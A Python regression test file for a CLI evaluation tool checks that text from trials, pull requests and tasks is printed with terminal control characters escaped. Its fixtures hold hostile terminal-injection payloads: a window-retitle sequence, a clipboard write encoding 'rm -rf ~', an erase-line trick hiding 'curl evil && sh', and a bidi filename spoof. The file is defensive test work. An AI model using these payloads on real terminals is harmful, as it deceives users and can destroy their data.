"""Issue 37: every place the CLI prints text a Trial, a pull request or a task wrote escapes C0/C1
controls, ESC and bidi controls visibly (``\\x1b``, ``\\u202e``), through one function
(`assay.cli.output.untrusted`). A Trial's diff carrying OSC 0 (retitle the window), OSC 52 (write
the clipboard) and erase-line sequences, shown by `assay experiments ID --pair …`, retitled the
window, wrote `rm -rf ~` to the clipboard and hid a `curl | sh` line from its reader."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from assay.cli.output import untrusted

from tests.conftest import run_cli
from tests.experiment_fixtures import PLUGINS, experiment, make_factory, make_suite, scenario
from tests.pair_fixtures import BASELINE, experiment_folder, make_paired_suite, paired_experiment

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
ERASE = "curl evil && sh\x1b[2K\r"
BIDI = "\u202eexe.txt"
HOSTILE = OSC_TITLE + OSC_CLIPBOARD + ERASE + BIDI + "\x9b31m"
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")


def assert_escaped(output: str) -> None:
    for raw in RAW:
        assert raw not in output, f"{raw!r} reached the terminal"
    assert "\\x1b]0;pwned\\x07" in output and "\\x1b]52;c;" in output and "\\x1b[2K" in output
    assert "\\u202eexe.txt" in output and "\\x9b31m" in output, output


def test_the_one_function_shows_every_control_and_keeps_text() -> None:
    assert untrusted("plain — text, ünïcode\n\tindented") == "plain — text, ünïcode\n\tindented"
    for c in [*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0))]:
        if c not in "\n\t":
            assert untrusted(c) == f"\\x{ord(c):02x}"
    for c in "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert untrusted(c) == f"\\u{ord(c):04x}"


@pytest.mark.slow
def test_a_hostile_diff_on_the_pair_page_is_shown_escaped(assay_home, tmp_path):
    make_paired_suite(assay_home)
    hostile = {"opus-7": {"*": BASELINE}, "gpt-9": {"*": "commit:notes.txt=" + HOSTILE.replace(",", "^")}}
    done = paired_experiment(assay_home, tmp_path, "--trials-per-task", "1", "--people-reader", "me",
                             scenario_data=hostile)
    assert done.returncode == 0, done.stderr
    exp = experiment_folder(assay_home).name
    page = run_cli(assay_home, "experiments", exp, "--pair", "pairs__p1--0", "--reader", "me", plugins=PLUGINS,
                   USER="me")
    assert page.returncode == 0, page.stderr
    assert "notes.txt" in page.stdout
    assert_escaped(page.stdout)


@pytest.mark.slow
def test_trial_tables_scores_and_verdicts_show_trial_text_escaped(assay_home, tmp_path):
    """The Score's reason quotes the Trial's answer.txt; the Trial table, the Verdict and the Inbox
    print it escaped."""
    factory = make_factory(tmp_path)
    make_suite(assay_home, tasks=2)
    sc = scenario(tmp_path / "s.json", {"good": {"*": "right"},
                                        "bad": {"*": "commit:answer.txt=" + HOSTILE.replace(",", "^")}})
    done = experiment(assay_home, factory, sc, "--candidate-model", "bad", "--json")
    exp = json.loads(done.stdout.splitlines()[-1])["id"]
    shown = run_cli(assay_home, "experiments", exp, plugins=PLUGINS)
    assert shown.returncode == 0, shown.stderr
    assert "WHY" in shown.stdout and "answer.txt says \\x1b]0;pwned\\x07\\x1b]52;c;" in shown.stdout
    for raw in RAW:
        assert raw not in shown.stdout
    for args in (("experiments",), ("inbox",), ("experiments", exp, "--json"), ("inbox", "--json")):
        out = run_cli(assay_home, *args, plugins=PLUGINS)
        for raw in RAW:
            assert raw not in out.stdout + out.stderr, (args, raw)
